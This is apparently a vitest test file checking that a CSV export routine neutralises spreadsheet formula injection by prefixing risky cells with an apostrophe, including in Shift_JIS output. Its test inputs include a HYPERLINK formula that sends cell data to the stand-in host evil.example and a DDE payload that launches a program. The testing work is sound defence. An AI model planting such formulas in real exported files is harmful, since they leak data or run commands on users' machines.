// CSV injection: text that a spreadsheet would run as a formula is written with a leading apostrophe
// (OWASP), in every CSV Hyoka writes (they all go through csvText); figures and dashes stay as they are.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvBytes, csvText } from "../../src/reports/csv.ts";

const cells = (csv: string) => (parse(csv) as string[][])[0]!;

describe("CSV cells a spreadsheet would run", () => {
  it("neutralises = + - @ tab and CR at the start of text", () => {
    const link = '=HYPERLINK("http://evil.example/leak?d="&A1,"詳細")';
    expect(cells(csvText([[link, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]]))).toEqual([
      `'${link}`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
    ]);
  });

  it("leaves figures, dashes and ordinary text alone", () => {
    expect(
      cells(csvText([[-5, "-5", "+1.5", "-1,234", "-", "12.5%", "－", "分析 = 回復傾向", "R4:22回"]])),
    ).toEqual(["-5", "-5", "+1.5", "-1,234", "-", "12.5%", "－", "分析 = 回復傾向", "R4:22回"]);
  });

  it("in Shift_JIS too", () => {
    const { bytes } = csvBytes([["連携状況"], ["=1+1"]], "cp932");
    expect(new TextDecoder("shift_jis").decode(bytes)).toBe("連携状況\r\n'=1+1\r\n");
  });
});
